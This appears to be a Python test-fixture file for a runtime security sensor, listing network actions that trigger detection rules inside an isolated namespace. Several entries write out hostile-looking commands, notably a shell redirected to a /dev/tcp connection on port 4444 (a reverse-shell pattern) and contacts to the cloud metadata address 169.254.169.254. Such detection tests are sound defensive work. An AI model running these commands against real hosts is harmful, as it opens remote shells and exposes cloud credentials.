"""Actions on the network, all between addresses of one network namespace that lead nowhere."""

from __future__ import annotations

from typing import Final

from tests.live.attacks.action import Action, Place

_NAMES: Final = "names of addresses: the sensor looks none up yet"

NETWORK: Final = (
    Action(
        "Disallowed SSH Connection Non Standard Port",
        "network; listen 443; ssh -F none -o BatchMode=yes -p 443 nobody@$ADDRESS true 2>/dev/null",
        {"proc.name": "ssh", "fd.name": "198.51.100.1:*->198.51.100.1:443"},
        needs=("ssh",),
    ),
    Action(
        "System procs network activity",
        "network; listen 9100; connect $ADDRESS 9100",
        {"proc.name": "bash", "fd.name": "198.51.100.1:*->198.51.100.1:9100"},
    ),
    Action(
        "Unexpected UDP Traffic",
        "network; : <>/dev/udp/$ADDRESS/5353",
        {"proc.name": "bash", "fd.name": "198.51.100.1:*->198.51.100.1:5353", "fd.l4proto": "udp"},
    ),
    Action(
        "Unexpected inbound connection source",
        "network; listen 9101; connect $ADDRESS 9101",
        {"proc.name": "python3", "fd.name": "198.51.100.1:*->198.51.100.1:9101"},
    ),
    Action(
        "Interpreted procs inbound network activity",
        "network; listen 9102; connect $ADDRESS 9102",
        {"proc.name": "python3", "fd.name": "198.51.100.1:*->198.51.100.1:9102"},
    ),
    Action(
        "Interpreted procs outbound network activity",
        "network; listen 9103; call receive $ADDRESS 9103",
        {"proc.name": "python3", "fd.name": "198.51.100.1:*->198.51.100.1:9103"},
    ),
    Action(
        "Java Process Class File Download",
        "network; listen 9104 cafebabe00000034; disguised java python3 -IS $TOOLS/calls.py receive $ADDRESS 9104",
        {"proc.name": "java", "evt.type": "recvfrom"},
    ),
    Action(
        "Detect outbound connections to common miner pool ports",
        "network; listen 3333; connect $ADDRESS 3333",
        {"proc.name": "bash", "fd.name": "198.51.100.1:*->198.51.100.1:3333"},
        awaits=_NAMES,
    ),
    Action(
        "Contact K8S API Server From Container",
        "network; listen 443; connect $ADDRESS 443",
        {"proc.name": "bash", "fd.name": "198.51.100.1:*->198.51.100.1:443"},
        Place.CONTAINER,
        awaits=_NAMES,
    ),
    Action(
        "Redirect STDOUT/STDIN to Network Connection in Container",
        'network; listen 4444; exec 5<>"/dev/tcp/$ADDRESS/4444"; dash -c : <&5 >&5 2>&5',
        {"proc.name": "bash", "fd.name": "198.51.100.1:*->198.51.100.1:4444"},
        Place.CONTAINER,
        ("dash",),
    ),
    Action(
        "Packet socket created in container",
        "call packet-socket",
        {"proc.name": "python3", "evt.type": "socket"},
        Place.CONTAINER,
    ),
    Action(
        "Contact EC2 Instance Metadata Service From Container",
        "network; listen 80 '' $METADATA; connect $METADATA 80",
        {"proc.name": "bash", "fd.name": "*->169.254.169.254:80"},
        Place.CONTAINER,
    ),
    Action(
        "Contact cloud metadata service from container",
        "network; listen 80 '' $METADATA; connect $METADATA 80",
        {"proc.name": "bash", "fd.name": "*->169.254.169.254:80"},
        Place.CONTAINER,
    ),
    Action(
        "Unexpected K8s NodePort Connection",
        "network; listen 30080; connect $ADDRESS 30080",
        {"proc.name": "bash", "fd.name": "198.51.100.1:*->198.51.100.1:30080"},
        Place.CONTAINER,
    ),
)
